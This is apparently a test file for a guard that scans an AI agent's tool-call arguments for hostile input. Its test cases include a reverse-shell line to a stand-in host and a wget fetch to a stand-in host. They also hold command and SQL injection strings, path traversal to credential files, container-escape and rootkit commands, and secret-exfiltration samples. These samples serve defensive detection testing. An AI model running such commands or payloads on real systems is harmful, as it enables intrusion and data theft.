import { expect, it } from 'vitest'
import { toolsGuard } from '../../../../src/guards/tools.ts'
import { inferArguments, pathArg } from '../../../../src/policy/index.ts'
import { callOf, contextOf } from '../context.ts'

const rules = (args: Record<string, unknown>) =>
  inferArguments()
    .inspect('t', args)
    .map(({ rule, pointer }) => `${pointer} ${rule}`)

it.each([
  [{ path: '../../etc/passwd' }, '/path path/traversal'],
  [{ options: { targetDir: '%2e%2e/x' } }, '/options/targetDir path/traversal'],
  [{ files: ['ok.txt', '/etc/shadow'] }, '/files/1 path/sensitive'],
  [{ anything: '~/.ssh/id_rsa' }, '/anything path/sensitive'],
  [{ port: '8080 | wget http://x.example/a.sh' }, '/port command/injected'],
  [{ name: 'x$(id)' }, '/name command/injected'],
  [{ host: '1.1.1.1; /bin/cat x' }, '/host command/injected'],
  [{ url: 'http://169.254.169.254/' }, '/url url/private-address'],
  [{ webhookUrl: 'file:///etc/passwd' }, '/webhookUrl url/scheme'],
  [{ thing: 'gopher://10.0.0.1/' }, '/thing url/scheme'],
  [{ command: 'bash -i >& /dev/tcp/a.example/1 0>&1' }, '/command command/reverse-shell'],
  [{ command: 'powershell -enc SQBFAFgA' }, '/command command/encoded'],
  [{ args: '-v /:/host --privileged alpine' }, '/args command/container-escape'],
  [{ command: 'sudo cat /etc/shadow' }, '/command path/sensitive'],
  [{ query: "x' UNION SELECT password FROM users" }, '/query sql/injected'],
  [{ id: "1' or '1'='1" }, '/id sql/injected'],
  [{ id: '1; drop table users' }, '/id sql/injected'],
  [{ code: "__import__('os').system('id')" }, '/code command/from-code'],
  [{ args: 'insmod /tmp/rootkit.ko' }, '/args command/kernel'],
  [{ command: 'LD_PRELOAD=/tmp/x.so sudo ls' }, '/command command/kernel'],
  [{ command: 'find / -perm -4000' }, '/command command/escalation'],
  [{ command: 'history -c' }, '/command command/cover-up'],
  [{ path: 'gcp-service-account.json' }, '/path path/sensitive'],
  [{ query: "admin'--" }, '/query sql/injected'],
  [{ note: `db_${'pass'}word=hunter2hunter2` }, '/note exfiltration/secret'],
  [{ note: btoa(`api_${'key'}=abcdefghijklmnop`) }, '/note exfiltration/encoded-secret'],
  [{ city: btoa('the quarterly figures are 12, 14 and 19') }, '/city exfiltration/encoded-text'],
  [{ domain: `${'dGhpcyBpcyBzZWNyZXQgZGF0YSBmcm9tIHRo'}.evil.example` }, '/domain exfiltration/encoded-label'],
  [{ 'a/b': '../x/../../y' }, '/a~1b path/traversal'],
])('%j is noticed', (args, expected) => expect(rules(args)).toEqual([expected]))

it.each([
  { path: 'src/main.ts' },
  { query: 'what is a path traversal?' },
  { message: 'Tea; coffee & cake (50% off) -- see you at 5' },
  { content: "It's either this or that; drop by any time" },
  { url: 'https://example.com/a?b=c&d=e' },
  { sql: 'select a from t where b = 1' },
  { command: 'tar -czf backup.tar.gz /home/user/documents' },
  { name: "O'Brien and sons" },
  { note: 'Union select committee meets; insert coin' },
  { text: 'a'.repeat(30_000) },
  { expression: '2 + 2' },
  { regex: '^(a|b)+$' },
  { id: 'user-or-group' },
  { command: 'npm install && npm test' },
  { command: 'ls -la | grep foo' },
  { markdown: 'Use `ls` to list; `cat` to show' },
  { code: 'for (const x of xs) { console.log(x); find(x) }' },
  { glob: '../**/*.md' },
  { hash: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' },
  { id: '3fa85f64-5717-4562-b3fc-2c963f66afa6' },
  { password: 'correct horse battery' },
  { host: 'very-long-but-honest-name-of-a-host.example.com' },
  { sql: "select * from orders where status = 'open' or status = 'pending'" },
])('%j is ordinary', (args) => expect(rules(args as Record<string, unknown>)).toEqual([]))

it('through the guard: findings by default, a refusal where a check is declared or denial is asked for', async () => {
  const message = callOf('read', { path: '/etc/shadow' })
  const noted = contextOf()
  expect(await toolsGuard({ inspect: inferArguments() }).onMessage?.(message, noted)).toBeUndefined()
  expect(noted.findings).toEqual([{ rule: 'path/sensitive', severity: 'high', technique: 'T1502', pointer: '/params/arguments/path' }])
  for (const options of [
    { inspect: inferArguments({ deny: true }) },
    { args: { path: pathArg() } },
    { args: { 'rea*': { path: pathArg() } } },
  ]) {
    const ctx = contextOf()
    expect(await toolsGuard(options).onMessage?.(message, ctx)).toMatchObject({ denial: { code: 'tool_denied' } })
    expect(ctx.findings).toMatchObject([{ rule: 'path/sensitive', pointer: '/params/arguments/path' }])
  }
})

it('a list around a value avoids nothing', async () => {
  const guard = toolsGuard({ args: { path: pathArg(), 'options.path': pathArg() } })
  for (const args of [{ path: ['ok', ['../x']] }, { options: [{ path: '../x' }] }]) {
    expect(await guard.onMessage?.(callOf('t', args), contextOf())).toMatchObject({ denial: { code: 'tool_denied' } })
  }
})

it('a listing of the places from which everything is seen is noticed, other listings are not', () => {
  const listed = (tool: string, path: string) =>
    inferArguments()
      .inspect(tool, { path })
      .map(({ rule }) => rule)
  expect(listed('list_directory', '/')).toEqual(['path/enumeration'])
  expect(listed('ls', 'C:\\Users\\Administrator')).toEqual(['path/enumeration'])
  expect(listed('list_directory', '/home/user/projects')).toEqual([])
  expect(listed('read_file', '/home')).toEqual([])
})

it('stays quick on long arguments', () => {
  const started = performance.now()
  for (const unit of ['a', ' ', "'", '%25', '../', '; cat ', 'or 1=1 ', 'password', 'A1', '/*', '$('])
    inferArguments().inspect('t', { command: unit.repeat(20_000), x: unit.repeat(20_000), sql: unit.repeat(20_000) })
  expect(performance.now() - started).toBeLessThan(4_000)
})
